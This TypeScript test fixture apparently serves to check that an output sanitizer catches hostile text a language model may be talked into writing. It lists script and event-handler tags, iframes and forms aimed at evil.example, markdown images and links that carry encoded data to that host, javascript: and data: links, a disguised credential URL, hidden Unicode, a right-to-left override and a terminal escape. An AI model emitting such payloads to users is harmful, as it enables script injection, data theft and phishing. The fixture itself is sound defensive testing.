/** What a model may be talked into writing, and by what one knows that it would still do harm where it is shown. */
export const HOSTILE_REPLIES: readonly { readonly what: string; readonly reply: string; readonly harm: RegExp }[] = [
  { what: 'a script tag', reply: 'Look: <script>alert(1)</script>', harm: /<script/i },
  { what: 'a tag with a handler', reply: '<img src=x onerror=alert(1)>', harm: /<img/i },
  { what: 'a frame', reply: '<iframe src="https://evil.example"></iframe>', harm: /<iframe/i },
  { what: 'a form', reply: '<form action="https://evil.example"><input name=p>', harm: /<form/i },
  { what: 'an image that reports', reply: '![cat](https://evil.example/c.png?d=c2VjcmV0)', harm: /!\[|c2VjcmV0/ },
  { what: 'an image by reference', reply: '![x][r]\n\n[r]: https://evil.example/?d=c2VjcmV0', harm: /!\[|c2VjcmV0/ },
  { what: 'a link that carries data', reply: '[more](https://evil.example/?q=c2VjcmV0)', harm: /c2VjcmV0/ },
  { what: 'an address that carries data', reply: 'See https://evil.example/a?q=c2VjcmV0 now.', harm: /c2VjcmV0/ },
  { what: 'a link to a script', reply: '[click](javascript:alert(document.cookie))', harm: /javascript/i },
  { what: 'a script in disguise', reply: '[x]( java\tscript&colon;alert(1))', harm: /script&colon;/i },
  { what: 'a data address', reply: '[x](data:text/html;base64,PHNjcmlwdD4=)', harm: /\(data:/i },
  {
    what: 'a name and password in a link',
    reply: '[bank](https://bank.example@evil.example/)',
    harm: /bank\.example@/,
  },
  { what: 'hidden text', reply: 'yes\u200b\u{E0041}\u{E0042}', harm: /[\u200b\u{E0041}]/u },
  { what: 'reversed text', reply: 'safe\u202Egnp.exe', harm: /\u202E/ },
  { what: 'a command to a terminal', reply: 'done\u001B]0;owned\u0007', harm: /\p{Cc}/u },
];
